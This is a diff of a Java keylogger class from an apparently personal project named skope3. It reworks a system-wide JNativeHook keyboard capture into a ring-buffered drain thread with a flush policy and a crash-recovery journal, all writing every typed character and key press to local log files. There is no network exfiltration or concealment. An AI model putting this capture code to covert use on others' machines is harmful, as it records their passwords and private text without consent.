@@ -1,126 +1,163 @@
 package com.gundersoft.skope3;
 
-import java.io.FileReader;
-import java.io.FileWriter;
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
-import java.util.Calendar;
-import java.util.Iterator;
-import java.util.LinkedList;
-import java.util.Timer;
-import java.util.TimerTask;
-import org.jnativehook.GlobalScreen;
-import org.jnativehook.NativeHookException;
-import org.jnativehook.keyboard.NativeKeyEvent;
-import org.jnativehook.keyboard.NativeKeyListener;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.TimeUnit;
+import java.util.concurrent.locks.LockSupport;
 
 /**
- * A Wrapper class for JNativehook that runs two separate key log buffers, one
- * reading literal text, the other reading key names into a semicolon delimited
- * list.
+ * Records keyboard activity from an InputEventSource, normally the
+ * JNativeHook desktop hook, into a
+ * packed EventLog and writes the events to a single event log. The two
+ * views of it, one reading literal text, the other reading key names into
+ * a semicolon delimited list, are derived from the events when the log is
+ * read. Every event carries its own time stamp, written to the log as a
+ * delta from the one before it. The hook callbacks only publish events
+ * into an EventRing. A single drain loop, running on the Scheduler's
+ * hook-drain pool, owns the buffers and does all
+ * flushing and event handler callbacks. Events can also be appended to a
+ * write-ahead Journal so a crash doesn't lose the ones not yet flushed.
  * @author Christian Gunderman
  */
 public class Keylogger {
+    /** Number of records the event log has room for before growing. */
+    private static final int EVENT_LOG_CAPACITY = 1024;
+    /** Number of events the hook can get ahead of the drain thread. */
+    private static final int RING_CAPACITY = 4096;
+    /** Longest time the drain thread sleeps when there is nothing to do. */
+    private static final long IDLE_PARK_NANOS = 10000000L;
+    /** Longest time a caller waits for the drain thread to flush. */
+    private static final long FLUSH_WAIT_MILLIS = 5000;
+    /** Time a log write waits for other flushes to join it. */
+    private static final long GROUP_COMMIT_MILLIS = 20;
+    /** Where keyboard events come from. */
+    private InputEventSource source;
     /** Stores whether or not this Keylogger is active */
-    private boolean enabled;
-    /** Buffer containing the text represenatation of the key log. */
-    private StringBuilder textBuffer;
-    /** Buffer containing the key press representation of the key log. */
-    private StringBuilder keyBuffer;
-    /** File to flush text buffer to */
-    private String textLogFile;
-    /** File to flush key buffer to */
-    private String keyLogFile;
+    private volatile boolean enabled;
+    /** Activity since the last flush, written to the event log. */
+    private EventLog events;
+    /** Events of the flush being written, for the activity rollup. */
+    private ActivityRollup activity;
+    /** Precomputed key code to key name bytes table. */
+    private KeyNames keyNames;
+    /** File to flush the events to */
+    private String logFile;
+    /** Typed text log from before the event log, only read and deleted, or null */
+    private volatile LogStore legacyTextLog;
+    /** Pressed keys log from before the event log, only deleted, or null */
+    private volatile LogStore legacyKeyLog;
+    /** Writes the events to logFile, null if there is no file. */
+    private FlushWriter writer;
     /** The instance of Event class that will be called when a button is pressed. */
     private Event eventHandler;
-    /** Timer instance that tags the log to allow for organized searching */
-    private Timer tagTimer;
-    /** Delay between each time stamp on a snippet of key log */
-    private int timeStampMillis;
-    /** Delay between flushing the buffers to a file. */
-    private int flushMillis;
-    /** Length of text buffer at last tag, prevents empty tags */
-    private int previousTagTextBufferLen;
-    /** Length of key buffer at last tag, prevents empty tags */
-    private int previousTagKeyBufferLen;
+    /** Events published by the hook thread, waiting for the drain thread. */
+    private EventRing ring;
+    /** Applies drained events to the buffers. */
+    private EventRing.Handler ringHandler;
+    /** The pool thread running the drain loop, null until it starts. */
+    private volatile Thread drainThread;
+    /** Released when the drain loop returns, or if it never got to run. */
+    private final CountDownLatch drainStopped = new CountDownLatch(1);
+    /** Keeps the drain thread going until destroy() */
+    private volatile boolean running;
+    /** Set while the drain thread is parked, so the hook knows to wake it. */
+    private volatile boolean drainWaiting;
+    /** Number of flushes requested from other threads. */
+    private volatile long flushRequested;
+    /** Number of requested flushes the drain thread has finished. */
+    private long flushCompleted;
+    /** Writer ticket of the last flush. */
+    private long ticket;
+    /** Guards flushCompleted and the writer ticket. */
+    private final Object flushLock = new Object();
+    /** Decides when the buffers are flushed to a file. */
+    private FlushPolicy flushPolicy;
+    /** Write-ahead journal of events not yet in the log file, or null. */
+    private Journal journal;
+    /** Journal position covered by the last flush, discarded once written. */
+    private long journalMark;
+    /** Number of events replayed from the journal at startup. */
+    private int recoveredCount;
 	
     /**
-     * Initialized JNativeHook System and creates Keylogger object.
-     * @throws NativeHookException Throws this exception if unable to get
-     * a valid keyboard hook going.
+     * Creates the Keylogger object and starts listening to the event source.
+     * @param eventHandler Receives keyboard and flush events.
+     * @param log Log the events are written to, or null.
+     * @param flushPolicy Decides when the buffers are written to the file.
+     * @param journal Write-ahead journal for unflushed events, or null.
+     * Anything left in it by a crash is written to the log before
+     * capture starts.
+     * @param scheduler Runs the drain loop and the log writes.
+     * @param source Where keyboard events come from. Stopped by destroy().
      */
-    public Keylogger(Event eventHandler, String textLogFile, String keyLogFile, 
-		     int timeStampMillis, int flushMillis) throws NativeHookException {
-	this.textBuffer = new StringBuilder();
-	this.keyBuffer = new StringBuilder();
-	GlobalScreen.registerNativeHook();
+    public Keylogger(Event eventHandler, LogStore log, FlushPolicy flushPolicy,
+		     Journal journal, Scheduler scheduler, InputEventSource source) {
+	this.events = new EventLog(EVENT_LOG_CAPACITY);
+	this.activity = new ActivityRollup();
+	this.keyNames = KeyNames.getInstance();
 	this.eventHandler = eventHandler;
-	this.textLogFile = textLogFile;
-	this.keyLogFile = keyLogFile;
-	this.timeStampMillis = timeStampMillis;
-	this.flushMillis = flushMillis;
-	this.previousTagTextBufferLen = 0;
-	this.previousTagKeyBufferLen = 0;
-	this.tagTimer = new Timer();
-	GlobalScreen.getInstance().addNativeKeyListener(new NativeKeyListener() {
+	if(log != null) {
+	    this.logFile = log.getBase().getPath();
+	    this.writer = new FlushWriter(log,
+					  scheduler.getPool(Scheduler.POOL_IO), GROUP_COMMIT_MILLIS,
+					  flushPolicy.getCeilingBytes());
+	}
+	this.flushPolicy = flushPolicy;
+	this.journal = journal;
+	this.source = source;
+	this.ring = new EventRing(RING_CAPACITY);
+	this.ringHandler = new EventRing.Handler() {
 		@Override
-		public void nativeKeyPressed(NativeKeyEvent e) {
-		    keyPressed(e);
+		public void event(int type, int code, int modifiers, long when) {
+		    if(Keylogger.this.journal != null)
+			Keylogger.this.journal.append(type, code, modifiers, when);
+		    if(type == EventRing.EVENT_PRESSED)
+			keyPressed(code, modifiers, when);
+		    else
+			keyTyped((char)code, modifiers, when);
 		}
+	    };
 
+	// replay events a crash kept out of the log, before capture starts
+	if(journal != null) {
+	    if(journal.getSyncMode() == Journal.SYNC_FLUSH && this.writer != null)
+		this.writer.setForceWrites(true);
+	    recoverJournal();
+	}
+	source.start(new InputEventSource.Listener() {
 		@Override
-		public void nativeKeyReleased(NativeKeyEvent e) {
-				
+		public void keyPressed(int keyCode, int modifiers, long when) {
+		    publish(EventRing.EVENT_PRESSED, keyCode, modifiers, when);
 		}
 
 		@Override
-		public void nativeKeyTyped(NativeKeyEvent e) {
-		    keyTyped(e.getKeyChar());
+		public void keyTyped(char key, int modifiers, long when) {
+		    publish(EventRing.EVENT_TYPED, key, modifiers, when);
 		}
 	    });
-		
-	// place first tag at beginning of file
-	Calendar currentTime = Calendar.getInstance();
-	Keylogger.this.textBuffer.append('\1' + Long.toString(currentTime.getTimeInMillis()) + '\2');
-	Keylogger.this.keyBuffer.append('\1' + Long.toString(currentTime.getTimeInMillis()) + '\2');
+
+	// start the loop that owns the buffers
+	this.running = true;
+	boolean started = scheduler.getPool(Scheduler.POOL_HOOK_DRAIN).execute(new Runnable() {
+		@Override
+		public void run() {
+		    Keylogger.this.drainThread = Thread.currentThread();
+		    try {
+			drainLoop();
+		    } finally {
+			Keylogger.this.drainStopped.countDown();
+		    }
+		}
+	    });
+	if(!started)
+	    this.drainStopped.countDown();
     }
 	
     public void setEnabled(boolean enabled) {
 	this.enabled = enabled;
-	if(this.enabled) {
-			
-	    // schedule tagging timer
-	    this.tagTimer.scheduleAtFixedRate(new TimerTask() {
-		    @Override
-		    public void run() {
-			Calendar currentTime = Calendar.getInstance();
-			if(Keylogger.this.textBuffer.length() != previousTagTextBufferLen) {
-			    Keylogger.this.textBuffer.append('\1' + Long.toString(currentTime.getTimeInMillis()) + '\2');
-			    previousTagTextBufferLen = Keylogger.this.textBuffer.length();
-			}
-			if(Keylogger.this.textBuffer.length() != previousTagKeyBufferLen) {
-			    Keylogger.this.keyBuffer.append('\1' + Long.toString(currentTime.getTimeInMillis()) + '\2');
-			    previousTagKeyBufferLen = Keylogger.this.keyBuffer.length();
-			}
-		    }
-				
-		}, this.timeStampMillis, this.timeStampMillis);
-			
-	    // schedule flushing timer
-	    this.tagTimer.scheduleAtFixedRate(new TimerTask() {
-		    @Override
-		    public void run() {
-			// write to file, if there is one
-			try {
-			    Keylogger.this.flushBuffers();
-			} catch (IOException e) {
-			    // do nothing
-			}
-		    }
-		}, 0, this.flushMillis);
-	} else {
-			
-	    // stop tagging and flush timer
-	    this.tagTimer.purge();
+	LockSupport.unpark(this.drainThread);
+	if(!this.enabled) {
 			
 	    // flush buffers
 	    try {
@@ -136,43 +173,207 @@ public class Keylogger {
     }
 	
     /**
-     * Clear keylog buffers and writes to the log files, if 
-     * they were given when the Keylogger was created.
-     * @throws IOException 
+     * Clear keylog buffers and writes to the log file, if 
+     * it was given when the Keylogger was created. On the drain
+     * thread, i.e. from an Event callback, the data is only queued for
+     * the log writers. From any other thread the flush is handed to the
+     * drain thread and this call waits until the data is on disk.
+     * @throws IOException Thrown if the log file can't be written.
      */
     public void flushBuffers() throws IOException {
-		
-	// write text buffer
-	if(this.textLogFile != null && this.textBuffer.length() > 0) {
-	    FileWriter logFile = new FileWriter(this.textLogFile, true);
-	    if(logFile != null) {
-		logFile.append(this.getLiteralText());
-		logFile.close();
+	if(Thread.currentThread() == this.drainThread) {
+	    writeBuffers(FlushPolicy.TRIGGER_REQUEST);
+	    return;
+	}
+
+	if(this.drainStopped.getCount() == 0)
+	    writeBuffers(FlushPolicy.TRIGGER_REQUEST);
+	else {
+	    synchronized(this.flushLock) {
+		long ticket = ++this.flushRequested;
+		LockSupport.unpark(this.drainThread);
+		long deadline = System.currentTimeMillis() + FLUSH_WAIT_MILLIS;
+		while(this.flushCompleted < ticket) {
+		    long remaining = deadline - System.currentTimeMillis();
+		    if(remaining <= 0 || this.drainStopped.getCount() == 0)
+			throw new IOException("Keylogger drain thread did not flush in time.");
+		    try {
+			this.flushLock.wait(remaining);
+		    } catch (InterruptedException e) {
+			Thread.currentThread().interrupt();
+			throw new IOException("Interrupted while waiting for keylog flush.");
+		    }
+		}
 	    }
 	}
-		
-	// write key press buffer
-	if(this.keyLogFile != null && this.keyBuffer.length() > 0) {
-	    FileWriter logFile = new FileWriter(this.keyLogFile, true);
-	    if(logFile != null) {
-		logFile.append(this.getKeyBuffer());
-		logFile.close();
+	awaitWriter();
+    }
+
+    /**
+     * Waits for the log writer to get the last flush on disk.
+     * @throws IOException Thrown if the log file can't be written.
+     */
+    private void awaitWriter() throws IOException {
+	long ticket;
+	synchronized(this.flushLock) {
+	    ticket = this.ticket;
+	}
+	if(this.writer != null)
+	    this.writer.await(ticket, FLUSH_WAIT_MILLIS);
+    }
+
+    /**
+     * Checks, without waiting, if the log writer has the last flush on
+     * disk. Only called on the drain thread, or once it has stopped.
+     * @return True if the log is written.
+     */
+    private boolean writerCaughtUp() {
+	return this.writer == null || this.writer.isWritten(this.ticket);
+    }
+
+    /**
+     * Writes whatever a crash left in the journal to the log file and
+     * then discards it. Called from the constructor, before the drain
+     * thread and the hook are running.
+     */
+    private void recoverJournal() {
+	this.recoveredCount = this.journal.replay(new EventRing.Handler() {
+		@Override
+		public void event(int type, int code, int modifiers, long when) {
+		    if(type == EventRing.EVENT_PRESSED)
+			Keylogger.this.events.addPressed(code, modifiers, when);
+		    else
+			Keylogger.this.events.addTyped((char)code, modifiers, when);
+		}
+	    });
+	if(this.recoveredCount == 0)
+	    return;
+
+	writeBuffers(FlushPolicy.TRIGGER_REQUEST);
+	try {
+	    awaitWriter();
+	    this.journal.discard(this.journalMark);
+	} catch (IOException e) {
+	    // keep the journal, it is replayed again next time
+	}
+    }
+
+    /**
+     * Does the work of flushBuffers(): renders the events into the log
+     * writer's buffer, with their activity counts, and clears the event
+     * log. The writer does the disk
+     * I/O on its own thread. Only called on the drain thread.
+     * @param trigger The FlushPolicy trigger that caused this flush.
+     */
+    private void writeBuffers(int trigger) {
+	if(this.writer != null && !this.events.isEmpty()) {
+	    long ticket;
+	    long time = -1;
+	    this.activity.clear();
+	    this.events.countActivity(this.activity);
+	    try {
+		time = this.events.renderEvents(this.writer.begin());
+	    } catch (IOException e) {
+		// the writer buffers in memory and doesn't throw
+	    } finally {
+		ticket = this.writer.commit(time, this.activity);
+	    }
+	    synchronized(this.flushLock) {
+		this.ticket = ticket;
 	    }
 	}
 		
-	// clear text buffers
-	this.textBuffer = new StringBuilder();
-	this.keyBuffer = new StringBuilder();
+	// the journal holds on to these events until they are written
+	if(this.journal != null) {
+	    this.journalMark = this.journal.position();
+	    this.journal.flushed();
+	}
+
+	// clear event log
+	this.events.clear();
+	this.flushPolicy.flushed(trigger, System.currentTimeMillis());
 	this.eventHandler.buffersFlushed();
     }
+
+    /**
+     * Deletes the log, every segment of it, and the logs from before it.
+     * Goes through the log writer so that it lets go of the files first.
+     * @return True if the logs were deleted.
+     */
+    public boolean clearLogs() {
+	boolean deleted = this.writer == null || this.writer.delete();
+	LogStore textLog = this.legacyTextLog;
+	LogStore keyLog = this.legacyKeyLog;
+	if(textLog != null)
+	    deleted &= textLog.delete();
+	if(keyLog != null)
+	    deleted &= keyLog.delete();
+	return deleted;
+    }
+
+    /**
+     * Sets the typed text and pressed keys logs written before the event
+     * log replaced them. Nothing is written to them any more, but
+     * clearLogs() deletes them with the event log.
+     * @param textLog The old typed text log, or null.
+     * @param keyLog The old pressed keys log, or null.
+     */
+    public void setLegacyLogs(LogStore textLog, LogStore keyLog) {
+	this.legacyTextLog = textLog;
+	this.legacyKeyLog = keyLog;
+    }
+
+    /**
+     * Gets the typed text log from before the event log, if anything is
+     * left of it. It is read as is, in EventLog.VIEW_RAW.
+     * @return The old text log file name, or null if there is none.
+     */
+    public String getLegacyTextLogFile() {
+	LogStore textLog = this.legacyTextLog;
+	if(textLog == null || textLog.getSegments().length == 0)
+	    return null;
+	return textLog.getBase().getPath();
+    }
+
+    /**
+     * Gets the file the events are written to. Read it in a view,
+     * EventLog.VIEW_TEXT or VIEW_KEYS.
+     * @return The event log file name, or null.
+     */
+    public String getLogFile() {
+	return this.logFile;
+    }
+
+    /**
+     * Gets flush trigger counts, latency, throughput, spills and drops
+     * of the log writer, and journal use for the debug log.
+     * @return The flush policy summary followed by one for the log file
+     * and one for the journal.
+     */
+    public String getFlushStatistics() {
+	StringBuilder stats = new StringBuilder(this.flushPolicy.getStatistics());
+	if(this.writer != null)
+	    stats.append("; ").append(this.writer.getStatistics());
+	if(this.journal != null)
+	    stats.append("; ").append(this.journal.getStatistics());
+	return stats.toString();
+    }
 	
     /**
      * Gets the text that would appear as the keys on the 
-     * keyboard are typed.
+     * keyboard are typed. Rendered from the event log on each
+     * call. Only safe to call from the drain thread, i.e. from
+     * inside an Event callback.
      * @return A String containing the keylog.
      */
     public String getLiteralText() {
-	return this.textBuffer.toString();
+	StringBuilder text = new StringBuilder();
+	try {
+	    this.events.renderText(text, false);
+	} catch (IOException e) {
+	    // StringBuilder doesn't throw
+	}
+	return text.toString();
     }
 	
     /**
@@ -181,280 +382,206 @@ public class Keylogger {
      * the literal text buffer.
      */
     public int getLiteralTextLength() {
-	return this.textBuffer.length();
+	return getLiteralText().length();
     }
 	
     /**
      * Gets buffer of ALL keys pressed since last buffer flush.
+     * Rendered from the event log on each call. Only safe to
+     * call from the drain thread.
      * @return The keys pressed, separated by semi colons.
      */
     public String getKeyBuffer() {
-	return this.keyBuffer.toString();
+	return new String(renderKeyBuffer(), KeyNames.CHARSET);
     }
 	
     /**
      * Gets length of the key buffer.
-     * @return An integer value of the number of characters in
+     * @return An integer value of the number of encoded bytes in
      * the key press buffer.
      */
     public int getKeyBufferLength() {
-	return this.keyBuffer.length();
+	return renderKeyBuffer().length;
     }
-	
+
     /**
-     * Release Native hook.
+     * Gets the heap used by the unflushed event log.
+     * @return Size of the event log in bytes.
      */
-    public void destroy() {
-	GlobalScreen.unregisterNativeHook();
-	this.tagTimer.cancel();
+    public long getBufferMemoryUsage() {
+	return this.events.getMemoryUsage();
     }
-	
+
     /**
-     * Called when a key is pressed.
+     * Renders the pressed keys view of the event log.
+     * @return The encoded key press log.
      */
-    private void keyPressed(NativeKeyEvent e) {
-	if(this.enabled) {
-	    String keyText = NativeKeyEvent.getKeyText(e.getKeyCode());
-	    keyBuffer.append(keyText + "; ");
-	    this.eventHandler.keyPressed();
+    private byte[] renderKeyBuffer() {
+	ByteArrayOutputStream keys = new ByteArrayOutputStream();
+	try {
+	    this.events.renderKeys(keys, this.keyNames, false);
+	} catch (IOException e) {
+	    // ByteArrayOutputStream doesn't throw
 	}
+	return keys.toByteArray();
+    }
+
+    /**
+     * Gets the number of events the journal gave back at startup, i.e.
+     * events that a crash would otherwise have lost.
+     * @return Count of recovered events.
+     */
+    public int getRecoveredEventCount() {
+	return this.recoveredCount;
+    }
+
+    /**
+     * Gets the number of key events lost because the drain thread
+     * could not keep up with the hook.
+     * @return Count of dropped events.
+     */
+    public long getDroppedEventCount() {
+	return this.ring.getDroppedCount();
     }
 	
     /**
-     * Called when a key is typed.
-     * @param key
+     * Stop the event source, stop the drain thread and write out and
+     * close the log file.
      */
-    private void keyTyped(char key) {
-	if(this.enabled) {
-	    if(key == '\b') {
-		//if(textBuffer.length() > 0 && key != '\1' && key != '\2')
-		//	textBuffer.deleteCharAt(textBuffer.length() - 1);
-		textBuffer.append("[Backspace]");
-	    } else
-		textBuffer.append(key);
-	    this.eventHandler.keyTyped();
+    public void destroy() {
+	this.source.stop();
+	this.running = false;
+	LockSupport.unpark(this.drainThread);
+	try {
+	    this.drainStopped.await(FLUSH_WAIT_MILLIS, TimeUnit.MILLISECONDS);
+	} catch (InterruptedException e) {
+	    Thread.currentThread().interrupt();
+	}
+	if(this.writer != null)
+	    this.writer.close();
+	if(this.journal != null) {
+	    if(writerCaughtUp())
+		this.journal.discard(this.journalMark);
+	    this.journal.close();
 	}
     }
-	
+
     /**
-     * Interface that triggers outside event when a keylogger event
-     * happens.
+     * Called on the event source's thread. Hands the event to the drain
+     * thread without blocking or allocating.
+     * @param type EventRing event type.
+     * @param code Key code or typed character.
+     * @param modifiers Modifier key mask.
+     * @param when Time of the event in milliseconds.
      */
-    public interface Event {
-	public void keyPressed();
-		
-	public void buffersFlushed();
-		
-	public void keyTyped();
+    private void publish(int type, int code, int modifiers, long when) {
+	if(this.enabled && this.ring.publish(type, code, modifiers, when)
+	   && this.drainWaiting)
+	    LockSupport.unpark(this.drainThread);
     }
-	
+
     /**
-     * Special Subclass that loads a Keylogger database file and creates a linked
-     * list of snippets, taken at specific times. Use methods of this object to
-     * get the log in its entirety, or just significant pieces of it.
+     * Body of the drain thread. Applies published events to the buffers,
+     * runs due and requested flushes and then sleeps until there is more
+     * work.
      */
-    public static class LogParser {
-	/** Catalog of Key log snippets */
-	private LinkedList<LogEntry> catalog;
-		
-	// TODO: Error check constructor.
-	/**
-	 * Creates the LogParser object from the given log file.
-	 * @param logFile The file to open as the log file.
-	 * @throws IOException Thrown if unable to find/open the 
-	 * given log file name.
-	 */
-	public LogParser(String logFile) throws IOException {
-	    this.catalog = new LinkedList<LogEntry>();
-	    FileReader reader = new FileReader(logFile);
-	    if(reader != null) {
-		boolean leftBracketReached = false;
-		boolean bodyReached = false;
-		int b = 0;
-		Calendar date = null;
-		StringBuilder buffer = new StringBuilder();
-		while((b = reader.read()) != -1) {
-		    char c = (char) b;
-		    if(c == '\1') {
-			if(bodyReached && date != null) {
-			    catalog.add(new LogEntry(date, buffer.toString()));
-			    buffer = new StringBuilder();
-			}
-			leftBracketReached = true;
-		    } else if(c == '\2') {
-			date = Calendar.getInstance();
-			date.setTimeInMillis(Long.parseLong(buffer.toString()));
-			leftBracketReached = false;
-			bodyReached = true;
-			buffer = new StringBuilder();
-		    } else if(leftBracketReached || bodyReached)
-			buffer.append(c);
-		}
-				
-		if(buffer.length() > 0) {
-		    if(bodyReached && date != null) {
-			catalog.add(new LogEntry(date, buffer.toString()));
-			buffer = new StringBuilder();
-		    }
-		}
-		reader.close();
+    private void drainLoop() {
+	boolean wasEnabled = false;
+	while(this.running) {
+	    int drained = this.ring.drain(this.ringHandler);
+	    long now = System.currentTimeMillis();
+
+	    // (re)start flush schedule when enabled
+	    boolean enabled = this.enabled;
+	    if(enabled && !wasEnabled)
+		this.flushPolicy.start(now);
+	    wasEnabled = enabled;
+
+	    // write to file on time, size or memory pressure
+	    if(enabled) {
+		int trigger = this.flushPolicy.check(now, this.events.getRecordBytes());
+		if(trigger != FlushPolicy.TRIGGER_NONE)
+		    writeBuffers(trigger);
 	    }
-	}
-		
-	/**
-	 * Get the log in its entirety in plain String form.
-	 * @return The current log file.
-	 */
-	public String getEntireLog() {
-	    StringBuilder buffer = new StringBuilder();
-	    for(LogEntry l : this.catalog) {
-		buffer.append(l.text);
+
+	    long requested = this.flushRequested;
+	    if(requested != this.flushCompleted)
+		completeRequestedFlush(requested);
+
+	    // let go of journaled events once the log has them
+	    long syncTime = Long.MAX_VALUE;
+	    if(this.journal != null) {
+		if(writerCaughtUp())
+		    this.journal.discard(this.journalMark);
+		syncTime = this.journal.tick(now);
 	    }
-	    return buffer.toString();
-	}
-		
-	/**
-	 * Gets all log snippets within the given time window of the specified
-	 * date.
-	 * @param A Calendar object representing a time to search for relevant
-	 * snippets from.
-	 * @param timeWindowMillis Time window in milliseconds within which a
-	 * snippet must have been taken to be considered relevant.
-	 * @return The text from this snippet.
-	 */
-	public String getRelevantLog(Calendar date, int timeWindowMillis) {
-	    StringBuilder buffer = new StringBuilder();
-	    for(LogEntry l : this.catalog) {
-		if(Math.abs(l.date.getTimeInMillis() - date.getTimeInMillis())
-		   < (timeWindowMillis / 2)) {
-		    buffer.append(l.text);
+
+	    // sleep until the hook publishes or a timer is due
+	    if(drained == 0) {
+		long sleepNanos = IDLE_PARK_NANOS;
+		if(enabled) {
+		    long due = Math.min(this.flushPolicy.getNextFlushTime(), syncTime) - now;
+		    sleepNanos = Math.max(0, Math.min(sleepNanos, due * 1000000L));
 		}
+		this.drainWaiting = true;
+		if(this.ring.isEmpty() && this.flushRequested == this.flushCompleted)
+		    LockSupport.parkNanos(this, sleepNanos);
+		this.drainWaiting = false;
 	    }
-			
-	    if(buffer.length() > 0)
-		return buffer.toString();
-	    else
-		return null;
-	}
-		
-	/**
-	 * Gets the date of the first snippet in the given file.
-	 * This SHOULD be the oldest snippet if the file was not
-	 * hand modified.
-	 * @return The Date of the oldest file.
-	 */
-	public Calendar getFirstDate() {
-	    if(this.catalog.size() > 0)
-		return this.catalog.getFirst().date;
-	    else 
-		return null;
 	}
-		
-	/**
-	 * Gets the date of the last snippet in the given file.
-	 * This SHOULD be the newest snippet if the file was not
-	 * hand modified.
-	 * @return The Date of the newest snippet.
-	 */
-	public Calendar getLastDate() {
-	    if(this.catalog.size() > 0)
-		return this.catalog.getLast().date;
-	    else 
-		return null;
-	}
-		
-	/*
-	 * TODO: Revise this crappy function below. Not sure if end index
-	 * is even correct at all and it has unneccessary nesting, but will 
-	 * do for now.
-	 */
-	/**
-	 * Gets the index of the first character of the sequence of log snippets
-	 * within the provided time window of the given date.
-	 */
-	public int[] getRelevantLogRange(Calendar date, int timeWindowMillis) {
-	    int[] interval = new int[2];
-	    interval[0] = -1;
-	    int index = 0;
-	    Iterator<LogEntry> iterator = this.catalog.iterator();
-	    while(iterator.hasNext()) {
-		LogEntry l = iterator.next();
-				
-		// if not located start index yet
-		if(interval[0] == -1) {
-		    if(Math.abs(l.date.getTimeInMillis() - date.getTimeInMillis())
-		       < (timeWindowMillis / 2)) {
-			interval[0] = index;
-		    }
-		} else {
-		    while(iterator.hasNext() && (Math.abs(l.date.getTimeInMillis() - date.getTimeInMillis())
-						 < (timeWindowMillis / 2))) {
-			index += iterator.next().text.length();
-		    }
-						
-		    interval[1] = index;
-		    return interval;
-		}
-				
-		// add length of current string to current index
-		index += l.text.length();
-	    }
-	    return null;
+
+	// pick up anything published before the hook was released
+	this.ring.drain(this.ringHandler);
+	writeBuffers(FlushPolicy.TRIGGER_REQUEST);
+    }
+
+    /**
+     * Runs a flush requested by another thread and wakes the waiters.
+     * @param requested The highest flush ticket handed out so far.
+     */
+    private void completeRequestedFlush(long requested) {
+	writeBuffers(FlushPolicy.TRIGGER_REQUEST);
+	synchronized(this.flushLock) {
+	    this.flushCompleted = requested;
+	    this.flushLock.notifyAll();
 	}
+    }
+
+    /**
+     * Called on the drain thread when a key is pressed.
+     * @param keyCode The native key code.
+     * @param modifiers Modifier key mask.
+     * @param when Time of the key press.
+     */
+    private void keyPressed(int keyCode, int modifiers, long when) {
+	this.events.addPressed(keyCode, modifiers, when);
+	this.eventHandler.keyPressed();
+    }
+	
+    /**
+     * Called on the drain thread when a key is typed.
+     * @param key The typed character.
+     * @param modifiers Modifier key mask.
+     * @param when Time the character was typed.
+     */
+    private void keyTyped(char key, int modifiers, long when) {
+	this.events.addTyped(key, modifiers, when);
+	this.eventHandler.keyTyped(key);
+    }
+	
+    /**
+     * Interface that triggers outside event when a keylogger event
+     * happens.
+     */
+    public interface Event {
+	public void keyPressed();
 		
-	/**
-	 * Gets the index of the first character of the sequence of log snippets
-	 * within the provided time window of the given date.
-	 */
-	public int[] b(Calendar date, int timeWindowMillis) {
-	    int[] interval = new int[2];
-	    interval[0] = -1;
-	    int index = 0;
-	    Iterator<LogEntry> iterator = this.catalog.iterator();
-	    while(iterator.hasNext()) {
-		LogEntry l = iterator.next();
-				
-		// if not located start index yet
-		if(interval[0] == -1) {
-		    if(Math.abs(l.date.getTimeInMillis() - date.getTimeInMillis())
-		       < (timeWindowMillis / 2)) {
-			//return index;
-			interval[0] = index;
-		    }
-		} else {
-		    while(iterator.hasNext() && (Math.abs(l.date.getTimeInMillis() - date.getTimeInMillis())
-						 < (timeWindowMillis / 2))) {
-			index += iterator.next().text.length();
-		    }
-						
-		    interval[1] = index;
-		    return interval;
-		}
-				
-		// add length of current string to current index
-		index += l.text.length();
-	    }
-	    return null;
-	}
+	public void buffersFlushed();
 		
 	/**
-	 * A container class that holds log entries in the linked List.
+	 * Called on the drain thread once a typed char is in the buffers.
+	 * @param key The typed char.
 	 */
-	public static class LogEntry {
-	    /** The Date upon which the snippet was taken. */
-	    Calendar date;
-	    /** The text of the snippet */
-	    String text;
-			
-	    /**
-	     * Constructs a log entry.
-	     * @param date The Date upon which the snippet was taken.
-	     * @param text The Snippet Text.
-	     */
-	    public LogEntry(Calendar date, String text) {
-		this.date = date;
-		this.text = text;
-	    }
-	}
+	public void keyTyped(char key);
     }
 }